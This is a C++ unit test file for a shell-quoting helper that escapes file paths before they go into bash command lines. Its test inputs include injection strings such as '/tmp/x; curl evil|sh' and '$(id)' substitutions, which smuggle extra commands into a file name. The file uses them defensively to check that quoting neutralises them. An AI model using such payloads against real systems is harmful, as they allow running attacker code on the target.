#include "common/base/shell_word.h"

#include <cstdio>
#include <memory>

#include <gmock/gmock.h>
#include <gtest/gtest.h>

namespace cowork {
namespace {

using ::testing::ContainsRegex;
using ::testing::Not;

TEST(ShellWord, LeavesAnOrdinaryPathAsItIs) {
  EXPECT_EQ(ShellWord("/home/me/my-app_2.0"), "/home/me/my-app_2.0");
}

TEST(ShellWord, LetsNoNameWriteASentenceOfOurs) {
  for (const char* name : {"/tmp/x; curl evil|sh", "/tmp/$(id)", "/tmp/`id`", "/tmp/a\nb", "/tmp/'",
                           "/tmp/\x1b[2J", "~", "*", "a\tb", "a\\b"})
    EXPECT_THAT(ShellWord(name), Not(ContainsRegex("[; \n\x1b`(|*~\t]"))) << name;
}

struct Close {
  void operator()(FILE* pipe) const { ::pclose(pipe); }
};

// What bash makes of the word.
std::string Back(const std::string& word) {
  const std::string line = "bash -c \"printf %s " + [&] {
    std::string quoted;
    for (const char c : word) quoted.append(c == '$' || c == '\\' ? "\\" : "").append(1, c);
    return quoted;
  }() + "\"";
  const std::unique_ptr<FILE, Close> pipe(::popen(line.c_str(), "re"));
  std::string said;
  for (int c = 0; (c = std::fgetc(pipe.get())) != EOF;) said += static_cast<char>(c);
  return said;
}

TEST(ShellWord, IsReadBackByBash) {
  for (const std::string name : {"/home/me/app", "/tmp/x; curl evil|sh", "/tmp/it's", "/tmp/a\nb",
                                 "/tmp/caf\xc3\xa9 au lait", "/tmp/a\\x41", "/tmp/\"$HOME\""})
    EXPECT_EQ(Back(ShellWord(name)), name);
}

}  // namespace
}  // namespace cowork
